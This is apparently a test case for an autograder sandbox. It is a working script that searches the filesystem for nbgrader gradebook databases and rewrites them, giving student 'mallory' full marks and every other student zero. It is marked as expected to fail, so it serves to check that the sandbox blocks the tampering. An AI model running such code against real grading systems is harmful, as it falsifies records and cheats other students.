"""Looks for a gradebook of nbgrader's, gives itself all points there and everybody else none.

Expected: failed
"""

import glob
import os
import sqlite3

from accomplice import COURSE

WHOSE = """ WHERE notebook_id {} IN (
    SELECT n.id FROM submitted_notebook n JOIN submitted_assignment s ON n.assignment_id = s.id
    WHERE s.student_id = 'mallory')"""
OTHERS = "UPDATE grade SET manual_score = 0" + WHOSE.format("NOT")
OWN = "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells c WHERE c.id = cell_id)" + WHOSE.format("")


def books():
    here = os.path.abspath(".")
    for top in (COURSE, "/tmp", *(os.path.join(here, *[".."] * steps) for steps in range(5))):
        yield from glob.glob(f"{top}/*.db") + glob.glob(f"{top}/.grade/*")


for path in {os.path.realpath(path) for path in books()}:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2) as book:
            book.execute(OTHERS)
            book.execute(OWN)
        print(f"BREACH: it has rewritten {path}")
    except (OSError, sqlite3.Error):
        continue


def target(x):
    return x
